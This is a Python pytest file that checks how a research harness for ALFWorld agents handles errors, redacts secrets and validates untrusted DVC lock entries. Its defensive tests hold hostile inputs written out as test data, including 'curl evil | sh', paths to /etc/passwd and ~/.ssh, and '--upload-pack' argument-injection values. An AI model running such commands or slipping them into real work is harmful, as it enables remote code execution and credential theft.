"""Bad input gets one clear line naming what and where, and no other episode is lost."""

from __future__ import annotations

import json
import re
import subprocess
import sys

import pytest

from evoharness.agent.alfworld.games import list_games
from evoharness.core.config import load_params
from evoharness.agent.envpool import EnvPool, EnvWorker
from evoharness.agent.episode import EpisodeConfig
from evoharness.core.errors import EnvWorkerError, EvoError, PolicyError
from evoharness.agent.evaluate import evaluate
from evoharness.agent.policies import PolicySpec, make_policy, parse_policy
from hosts import start_chat

CLI = [sys.executable, "-m", "evoharness.cli"]


def test_corrupt_game_file_errors_that_episode_only(games_copy, tmp_path):
    games = list_games(games_copy, "valid_seen")
    bad = games[2]
    open(bad.path, "w").write('{"pddl_domain": "trunc')
    games = list_games(games_copy, "valid_seen")
    assert sum(g.error is not None for g in games) == 1
    r = evaluate(games, PolicySpec(kind="teacher"), EpisodeConfig(), [0], tmp_path / "ev", workers=2)
    s = r["summary"]["all"]
    # the errored episode counts as a failure: a model whose episodes crash must not score higher
    assert s["episodes"] == 6 and s["errored"] == 1 and s["wins"] == 5 and s["success"] == round(5 / 6, 4)
    recs = [json.loads(x) for x in (tmp_path / "ev" / "episodes.jsonl").read_text().splitlines()]
    err = next(x for x in recs if x["error"])
    assert "corrupt game file" in err["error"] and bad.path in err["error"]


def test_dead_worker_is_replaced_and_reported(games_root):
    game = list_games(games_root, "valid_seen")[0]
    w = EnvWorker(step_timeout=5)
    try:
        w.reset(game.path, 0)
        with pytest.raises(EnvWorkerError, match=r"died \(exit code 3\)"):
            w._call("crash", (), 5, "crash test")
        assert w.reset(game.path, 0).admissible  # a fresh worker took over
        with pytest.raises(EnvWorkerError, match="hung for over 1s"):
            w._call("hang", (), 1, "hang test")
        assert w.reset(game.path, 0).admissible and w.restarts == 2
    finally:
        w.close()


def test_worker_crash_mid_batch_loses_no_other_episode(games_root, tmp_path):
    """One episode's engine process is killed mid-episode; the batch finishes, that episode is
    reported as errored, its worker replaced, and every other episode is kept."""
    import os
    import signal

    from evoharness.agent.episode import run_episode
    from evoharness.agent.policies.teacher import TeacherPolicy
    from evoharness.agent.rollout import JsonlWriter

    games = list_games(games_root, "valid_unseen")
    victim = games[1].id

    class Killer(TeacherPolicy):
        def __init__(self, worker):
            super().__init__()
            self.worker, self.turn = worker, 0

        def act(self, prompt, view, privileged):
            self.turn += 1
            if self.turn == 3:
                os.kill(self.worker.proc.pid, signal.SIGKILL)
            return super().act(prompt, view, privileged)

    def job(worker, game):
        policy = Killer(worker) if game.id == victim else TeacherPolicy()
        return run_episode(worker, game, policy, EpisodeConfig(), None, 0).to_json()

    out = JsonlWriter(tmp_path / "e.jsonl")
    with EnvPool(2) as pool:
        recs = pool.map(job, games, on_result=lambda g, r: out.write(r))
        assert pool.restarts == 1
    assert len(recs) == 6 and len((tmp_path / "e.jsonl").read_text().splitlines()) == 6
    errored = [r for r in recs if r["error"]]
    assert [r["game_id"] for r in errored] == [victim] and "died (exit code -9)" in errored[0]["error"]
    assert all(r["outcome"]["won"] for r in recs if not r["error"])


def test_unknown_policy_and_bad_policy_options():
    with pytest.raises(EvoError, match="unknown policy 'gpt5'"):
        parse_policy("gpt5")
    with pytest.raises(EvoError, match="noise"):
        parse_policy("teacher:noise=lots")
    with pytest.raises(PolicyError, match="not a Hugging Face checkpoint"):
        make_policy(parse_policy("hf:path=/nonexistent")).act("p", None, None)


def test_bad_params_name_the_field(tmp_path):
    p = tmp_path / "params.yaml"
    p.write_text("games:\n  per_family: {train: two}\n")
    with pytest.raises(EvoError, match=r"params.yaml: games.per_family.train: .*integer.*'two'"):
        load_params(p)
    p.write_text("episode:\n  harness: {mode: sometimes}\n")
    with pytest.raises(EvoError, match=r"episode.harness.mode"):
        load_params(p)
    p.write_text("gmaes: {}\n")
    with pytest.raises(EvoError, match=r"unknown top-level key\(s\) \['gmaes'\]"):
        load_params(p)
    p.write_text("games: [1, 2\n")
    with pytest.raises(EvoError, match=r"line \d+: not valid YAML"):
        load_params(p)
    with pytest.raises(EvoError, match="does not exist"):
        load_params(tmp_path / "nope.yaml")


def test_cli_errors_are_one_line(games_root, tmp_path):
    r = subprocess.run(CLI + ["evaluate", "--games", str(games_root), "--policy", "gpt5"], capture_output=True, text=True, cwd=tmp_path)
    assert r.returncode == 2 and r.stderr.strip() == "error: unknown policy 'gpt5' (known: teacher, random, chat, hf)"
    r = subprocess.run(CLI + ["evaluate", "--games", str(tmp_path / "missing"), "--split", "valid_seen"], capture_output=True, text=True, cwd=tmp_path)
    assert r.returncode == 2 and r.stderr.count("\n") == 1 and "missing/valid_seen does not exist" in r.stderr
    r = subprocess.run(CLI + ["evaluate", "--games", str(games_root), "--mode", "sometimes"], capture_output=True, text=True, cwd=tmp_path)
    assert r.returncode == 2 and "--mode: unknown mode 'sometimes'" in r.stderr


def test_the_error_line_comes_after_the_exit_hook(games_root, monkeypatch, capsys):
    """The flows' command drains Prefect's queues in ``before_exit``: whatever that prints must come before
    the one-line error, which stays the last line of stderr (CI once saw Prefect's exit warning after it)."""
    from evoharness.cli import main

    def hook():
        print("prefect: draining", file=sys.stderr)

    monkeypatch.setattr(sys, "argv", ["evoharness", "evaluate", "--games", str(games_root), "--policy", "gpt5"])
    with pytest.raises(SystemExit) as e:
        main(before_exit=hook)
    lines = capsys.readouterr().err.strip().splitlines()
    assert e.value.code == 2 and lines == ["prefect: draining", "error: unknown policy 'gpt5' (known: teacher, random, chat, hf)"]


def test_chat_policy_against_a_local_openai_compatible_server(games_root, tmp_path, monkeypatch):
    srv = start_chat()
    monkeypatch.setenv("EVO_TEST_KEY", "sk-secret-123")
    url = f"http://127.0.0.1:{srv.server_port}/v1"
    try:
        spec = parse_policy(f"chat:base_url={url},model=m1,api_key_env=EVO_TEST_KEY,max_new_tokens=32")
        games = list_games(games_root, "valid_seen")[:1]
        r = evaluate(games, spec, EpisodeConfig(max_steps=3), [0], tmp_path / "ev", workers=1)
        assert r["summary"]["all"]["episodes"] == 1 and r["summary"]["all"]["errored"] == 0
        assert srv.seen[0][0] == "Bearer sk-secret-123" and srv.seen[0][1]["model"] == "m1"
        written = (tmp_path / "ev" / "episodes.jsonl").read_text() + (tmp_path / "ev" / "results.json").read_text()
        assert "sk-secret" not in written
        # The same endpoint as a baseline of the baselines stage, its URL holding a password: the spec names no
        # folder, no summary key, no metric (the folder is kind-model-hash).
        from evoharness.agent.baselines import baselines
        from evoharness.agent.policies.spec import policy_label
        from evoharness.ops.tracking import flatten, numeric

        spec = f"chat:base_url=http://evo:hunter2-pw@127.0.0.1:{srv.server_port}/v1,model=m1,api_key_env=EVO_TEST_KEY,max_new_tokens=32"
        (tmp_path / "p.yaml").write_text(f"workers: 1\nepisode: {{max_steps: 2}}\neval: {{seeds: [0], baselines: ['{spec}', random]}}\n")
        from evoharness.agent.harness.experience import Experience

        Experience.seeded().save(tmp_path / "bank.json")
        res = baselines(str(tmp_path / "p.yaml"), games_root, tmp_path / "bank.json", tmp_path / "bl", echo=lambda _m: None)
        label = policy_label(spec)
        assert re.fullmatch(r"chat-m1-[0-9a-f]{8}", label) and f"{label}-inline-valid_seen" in res and "random-inline-valid_unseen" in res
        names = [str(q.relative_to(tmp_path / "bl")) for q in (tmp_path / "bl").rglob("*")]
        assert not any("hunter2" in n for n in names) and "hunter2" not in (tmp_path / "bl" / "summary.json").read_text()
        assert not any("hunter2" in k for k in [*flatten({spec: 1}), *numeric({spec: {"success": 0.5}})])
    finally:
        srv.shutdown()
    with pytest.raises(PolicyError, match=r"chat endpoint http://127.0.0.1:9/v1/chat/completions unreachable"):
        make_policy(parse_policy("chat:base_url=http://127.0.0.1:9/v1,model=m")).act("hi", None, None)
    with pytest.raises(PolicyError, match=r"chat endpoint http://u:\*\*\*@127.0.0.1:9/v1/chat/completions unreachable"):
        make_policy(parse_policy("chat:base_url=http://u:hunter2@127.0.0.1:9/v1,model=m")).act("hi", None, None)


def test_evaluation_resumes_and_survives_a_truncated_line(games_root, tmp_path):
    games = list_games(games_root, "valid_seen")
    first = evaluate(games[:3], PolicySpec(kind="random"), EpisodeConfig(max_steps=5), [0], tmp_path, workers=2)
    assert first["played"] == 3
    with open(tmp_path / "episodes.jsonl", "a") as f:
        f.write('{"fingerprint": "cut sho')  # a run killed mid-write
    again = evaluate(games, PolicySpec(kind="random"), EpisodeConfig(max_steps=5), [0], tmp_path, workers=2)
    assert again["reused"] == 3 and again["played"] == 3 and again["unparsed_lines"] == [4]
    lines = (tmp_path / "episodes.jsonl").read_text().splitlines()
    assert len(lines) == 7 and lines.count('{"fingerprint": "cut sho') == 1  # kept byte for byte, after the records
    assert [json.loads(x)["game_id"] for x in lines[:6]] == sorted(g.id for g in games)  # canonical order


def test_out_of_range_numbers_are_one_line_and_touch_nothing(games_copy, tmp_path):
    """A count below 1 or a negative step budget: one `error:` line naming the value and where it came from,
    exit 2, and the demos already there left byte for byte."""
    import hashlib
    from pathlib import Path

    import yaml

    root = Path(__file__).resolve().parents[1]
    demos = tmp_path / "demos"
    demos.mkdir()
    (demos / "demos.jsonl").write_text('{"kept": true}\n')
    before = hashlib.sha256((demos / "demos.jsonl").read_bytes()).hexdigest()
    bad = yaml.safe_load((root / "params.yaml").read_text())
    bad["episode"]["max_steps"] = -5
    (tmp_path / "bad.yaml").write_text(yaml.safe_dump(bad))
    cases = [
        (["collect", "--games", str(games_copy), "--out", str(demos), "--n", "-3", "--params", str(root / "params.yaml")],
         r"error: collect: the number of demos must be at least 1 \(got -3 from --n\); nothing was written"),
        (["collect", "--games", str(games_copy), "--out", str(demos), "--params", str(tmp_path / "bad.yaml")],
         r"error: .*bad\.yaml: episode\.max_steps: Input should be greater than or equal to 1 \(got -5\)"),
        (["promotions", "--limit", "-1"], r"error: promotions: --limit must be at least 1 \(got -1\)"),
    ]
    import re

    for args, want in cases:
        r = subprocess.run(CLI + args, capture_output=True, text=True, cwd=tmp_path, timeout=300)
        lines = [ln for ln in (r.stdout + r.stderr).strip().splitlines() if ln.strip()]
        assert r.returncode == 2 and len(lines) == 1 and re.fullmatch(want, lines[0]), (args, r.stdout, r.stderr)
        assert hashlib.sha256((demos / "demos.jsonl").read_bytes()).hexdigest() == before and sorted(p.name for p in demos.iterdir()) == ["demos.jsonl"]


def test_files_are_written_whole_and_a_torn_file_is_never_read_as_empty(tmp_path, monkeypatch):
    import os

    from evoharness.core import atomic
    from evoharness.agent.training.grpo import _curve_rows
    from tasks.tracking import METRICS, read_metrics

    f = atomic.write_json(tmp_path / "m" / "results.json", {"success": 0.4})
    real = os.replace

    def killed(*a, **k):
        raise KeyboardInterrupt  # the process killed between writing the new file and renaming it
    monkeypatch.setattr(os, "replace", killed)
    with pytest.raises(KeyboardInterrupt):
        atomic.write_json(f, {"success": 0.0})
    monkeypatch.setattr(os, "replace", real)
    assert json.loads(f.read_text()) == {"success": 0.4} and [p.name for p in f.parent.iterdir()] == ["results.json"]
    # GRPO's running curve: a last line torn by a kill is left out on resume; a corrupt line before it is an error.
    curve = tmp_path / "curve.jsonl"
    curve.write_text('{"update": 0}\n{"update": 1}\n{"upda')
    assert _curve_rows(curve) == ['{"update": 0}', '{"update": 1}']
    curve.write_text('{"update": 0}\n{"upda\n{"update": 2}\n')
    with pytest.raises(EvoError, match=r"curve\.jsonl: line 2 is not a JSON row"):
        _curve_rows(curve)
    # A torn metrics file stops the retrain in one line; it is never read as "no metrics".
    m = tmp_path / METRICS["grpo"]
    m.parent.mkdir(parents=True, exist_ok=True)
    m.write_text('{"success": 0.')
    with pytest.raises(EvoError, match=r"the grpo stage's metrics file is not valid JSON"):
        read_metrics(tmp_path, "grpo")


def test_a_jobs_lock_entry_is_checked_before_it_is_merged():
    """What a pool job sends back is untrusted: a lock entry naming paths outside the repository, outputs the
    stage does not declare, another command or a malformed hash is refused in one line, before any merge."""
    import copy
    from pathlib import Path

    import yaml

    from evoharness.ops.dispatch import check_lock_entry

    root = Path(__file__).resolve().parents[1]
    good = yaml.safe_load((root / "dvc.lock").read_text())["stages"]["games"]
    check_lock_entry(root, "games", good)  # the committed entry, as a job would send it back

    def bad(change):
        e = copy.deepcopy(good)
        change(e)
        return e

    cases = {
        "names a path outside the repository in its outs": bad(lambda e: e["outs"][0].update(path="../../home/x/.ssh")),
        "names a path outside the repository in its deps": bad(lambda e: e["deps"][0].update(path="/etc/passwd")),
        "names output 'dvc.yaml', which dvc.yaml does not declare": bad(lambda e: e["outs"].append({"path": "dvc.yaml", "md5": "0" * 32})),
        "names another command": bad(lambda e: e.update(cmd="curl evil | sh")),
        "has an md5 that is not one": bad(lambda e: e["outs"][0].update(md5="--upload-pack=x")),
        "is not a DVC lock entry": ["not", "a", "mapping"],
    }
    for why, entry in cases.items():
        with pytest.raises(EvoError, match=rf"job for stage 'games' returned a dvc\.lock entry that {re.escape(why)}.*; nothing was merged"):
            check_lock_entry(root, "games", entry)


@pytest.mark.parametrize("uri, want", [
    ("http://alice:hunter2@127.0.0.1:9", r"error: MLflow tracking server http://alice:\*\*\*@127\.0\.0\.1:9 is unreachable \(.*\); start it or unset"),
    ("http://alice:hunter2@127.0.0.1:9x", r"error: MLflow tracking URI http://alice:\*\*\*@127\.0\.0\.1:9x has a port that is not a number"),
    ("postgresql://alice:hunter2@localhost/mlflow", r"error: MLflow tracking store postgresql://alice:\*\*\*@localhost/mlflow cannot be used: module \w+ is not installed"),
])
def test_a_tracking_uri_with_a_password_is_one_line_that_never_shows_it(tmp_path, uri, want):
    import os
    import re

    r = subprocess.run(CLI + ["promotions"], capture_output=True, text=True, cwd=tmp_path, env=dict(os.environ, MLFLOW_TRACKING_URI=uri), timeout=120)
    lines = [ln for ln in (r.stdout + r.stderr).strip().splitlines() if ln.strip()]
    assert r.returncode == 2 and len(lines) == 1 and re.match(want, lines[0]), r.stdout + r.stderr
    assert "hunter2" not in r.stdout + r.stderr


def test_a_model_name_that_could_end_mlflows_filter_quote_is_one_line_and_creates_no_store(tmp_path):
    r = subprocess.run(CLI + ["promotions", "--model", "x'"], capture_output=True, text=True, cwd=tmp_path, timeout=120)
    lines = [ln for ln in (r.stdout + r.stderr).strip().splitlines() if ln.strip()]
    assert r.returncode == 2 and lines == ["error: model name \"x'\": a registered model name holds letters, digits, '.', '_', '-', '/' and spaces only"], lines
    assert list(tmp_path.iterdir()) == []  # no tracking store was created for it


def _tree_hash(paths) -> dict:
    import hashlib
    from pathlib import Path

    out = {}
    for p in map(Path, paths):
        files = sorted(f for f in p.rglob("*") if f.is_file()) if p.is_dir() else [p] if p.exists() else []
        for f in files:
            out[str(f)] = hashlib.sha256(f.read_bytes()).hexdigest()
    return out


def test_every_command_given_bad_input_says_one_line_exits_2_and_changes_nothing(games_root, mlflow_template, tmp_path):
    """Commands x bad inputs on a project holding data, models, a tracking store and a dvc.lock: each gives one
    `error:` line naming what and where, exits 2, and leaves data/, models/, mlflow.db and dvc.lock byte for byte."""
    import os
    import re
    import shutil
    from pathlib import Path

    import yaml

    from project import MICRO, make_project

    proj = make_project(tmp_path / "p", MICRO)
    shutil.copytree(games_root, proj / "data" / "games")
    (proj / "data" / "demos").mkdir(parents=True)
    (proj / "data" / "demos" / "demos.jsonl").write_text('{"kept": true}\n')
    (proj / "models" / "m").mkdir(parents=True)
    (proj / "models" / "m" / "config.json").write_text("{garbage")  # a corrupt checkpoint
    torn = proj / "models" / "torn"
    torn.mkdir()
    (torn / "config.json").write_text(json.dumps({"model_type": "qwen3", "vocab_size": 64, "hidden_size": 16, "num_hidden_layers": 1,
                                                  "num_attention_heads": 2, "num_key_value_heads": 1, "intermediate_size": 32, "head_dim": 8}))
    (torn / "model.safetensors").write_bytes(os.urandom(100))
    shutil.copy(mlflow_template, proj / "mlflow.db")
    shutil.copy(Path(__file__).resolve().parents[1] / "dvc.lock", proj / "dvc.lock")
    (tmp_path / "adir").mkdir()
    (tmp_path / "list.yaml").write_text("- 1\n- 2\n")
    bad = dict(MICRO, episode={"max_steps": -5})
    (tmp_path / "neg.yaml").write_text(yaml.safe_dump(bad))
    game = next(p for p in (proj / "data" / "games" / "valid_seen").glob("*/*") if p.is_dir())
    ev = ["evaluate", "--games", "data/games", "--split", "valid_seen", "--out", "data/eval/x"]

    def plant(name: str, text: str):
        def do():
            saved = (proj / name).read_bytes()
            (proj / name).write_text(text)
            return lambda: (proj / name).write_bytes(saved)
        return do

    cases = [  # (args, what the line says, a file planted for the case)
        (["games", "--params", str(tmp_path / "adir")], r"params file .*adir: cannot be read \(Is a directory\)", None),
        (["games", "--params", str(tmp_path / "list.yaml")], r".*list\.yaml: expected a mapping at the top level, got list", None),
        (["games", "--params", str(tmp_path / "nope.yaml")], r"params file .*nope\.yaml does not exist", None),
        (["collect", "--out", "data/demos", "--n", "-3"], r"collect: the number of demos must be at least 1 \(got -3 from --n\)", None),
        (["collect", "--out", "data/demos", "--params", str(tmp_path / "neg.yaml")], r".*neg\.yaml: episode\.max_steps: .*greater than or equal to 1", None),
        (["promotions", "--limit", "-1"], r"promotions: --limit must be at least 1 \(got -1\)", None),
        (["promotions", "--model", "x'"], r"model name \"x'\": a registered model name holds", None),
        (["promotions"], r"MLflow sqlite store .*mlflow\.db is not an SQLite database", plant("mlflow.db", "garbage, not a database")),
        (["lineage", "data/pairs"], r".*dvc\.lock is not a DVC lock file \(stages is list, not a mapping\)", plant("dvc.lock", "stages: [1, 2]\n")),
        (["lineage", "data/pairs"], r".*dvc\.lock is not a DVC lock file \(stage 'games' is int", plant("dvc.lock", "schema: '2.0'\nstages:\n  games: 5\n")),
        (["lineage", "data/pairs"], r".*dvc\.lock is not valid YAML", plant("dvc.lock", "stages: [\n")),
        ([*ev, "--policy", "hf:path=models/m"], r"hf policy: cannot load the checkpoint models/m \(OSError: .*config", None),
        ([*ev, "--policy", "hf:path=models/torn"], r"hf policy: cannot load the checkpoint models/torn \(SafetensorError", None),
        (["play", str(game), "--policy", "hf:path=models/torn"], r"hf policy: cannot load the checkpoint models/torn", None),
        (["play", str(game), "--policy", "nosuch"], r"unknown policy 'nosuch'", None),
        ([*ev[:-2], "--out", "data/eval/y", "--policy", "random", "--split", "valid_nope"], r"unknown split 'valid_nope' \(known: train, valid_seen, valid_unseen\)", None),
        (["remote", "--url", "webdav://dav.example.com:99x/store"], r"the DVC remote \(webdav://dav\.example\.com:99x/store\) has a port that is not a number", None),
        (["remote", "--url", "ftp://dav.example.com/store"], r"the DVC remote \(ftp://dav\.example\.com/store\): DVC has no remote of kind 'ftp'", None),
        (["reproduce", "--", "--upload-pack=touch x"], r"'--upload-pack=touch x' is neither a retrain's MLflow run id", None),
    ]
    watched = [proj / "data", proj / "models", proj / "mlflow.db", proj / "dvc.lock", proj / ".dvc" / "config", proj / ".dvc" / "config.local"]
    failures = []
    for args, want, setup in cases:
        restore = setup() if setup else None
        before = _tree_hash(watched)
        r = subprocess.run(CLI + args, capture_output=True, text=True, cwd=proj, timeout=300, env=dict(os.environ, PYTHONPATH=str(proj)))
        after = _tree_hash(watched)
        if restore:
            restore()
        lines = [ln for ln in re.sub(r"[^\n]*\r", "", r.stdout + r.stderr).strip().splitlines() if ln.strip() and "ep/s]" not in ln]
        changed = sorted(k for k in before.keys() | after.keys() if before.get(k) != after.get(k))
        if r.returncode != 2 or len(lines) != 1 or not re.match("error: " + want, lines[0]) or changed:
            failures.append(f"{args}: rc {r.returncode}, lines {lines[-3:]}, changed {changed[:3]}")
    assert not failures, "\n".join(failures)
